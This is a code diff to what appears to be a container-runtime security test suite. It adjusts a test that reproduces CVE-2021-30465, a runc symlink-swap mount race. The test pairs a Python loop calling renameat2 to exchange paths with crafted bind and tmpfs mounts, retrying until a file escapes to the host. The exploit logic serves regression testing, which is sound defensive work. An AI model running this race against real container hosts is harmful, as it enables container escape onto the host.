@@ -78,9 +78,9 @@ def ran_it(text):
 
 
 @contextlib.contextmanager
-def victim(*argv):
+def victim(*argv, **popen):
     """A process of the host, without capabilities when it is all the same."""
-    process = subprocess.Popen(argv or ["sleep", "1000"], stdin=subprocess.DEVNULL)
+    process = subprocess.Popen(argv or ["sleep", "1000"], stdin=subprocess.DEVNULL, **popen)
     try:
         yield process
     finally:
@@ -303,6 +303,7 @@ SWAPPER = """
 import ctypes, os, sys
 libc = ctypes.CDLL(None)
 a, b = (os.path.join(sys.argv[1], n).encode() for n in ('real', 'link'))
+print('begun', flush=True)
 while True: libc.renameat2(-100, a, -100, b, 2)
 """
 
@@ -319,10 +320,10 @@ def cve_2021_30465_a_target_swapped_while_it_is_mounted(rt):
     def change(config):
         config["mounts"] += [{"destination": "/vol", "type": "bind", "source": str(shared), "options": ["rbind"]},
                              {"destination": "/vol/real/made", "type": "tmpfs", "source": "tmpfs"}]
-    cids = [rt.bundle("true", change=change) for _ in range(12)]
-    with victim("/usr/bin/python3", "-c", SWAPPER, str(shared)):
-        for cid in cids:
-            rt.run(cid)
+    with victim("/usr/bin/python3", "-c", SWAPPER, str(shared), stdout=subprocess.PIPE) as swapper:
+        assert swapper.stdout.readline() == b"begun\n"
+        for _ in range(300 if rt.undefended else 12):  # a race: where it can be won, it is tried until it is
+            rt.run(rt.bundle("true", change=change))
             if os.listdir(host):
                 break
     return made(host)
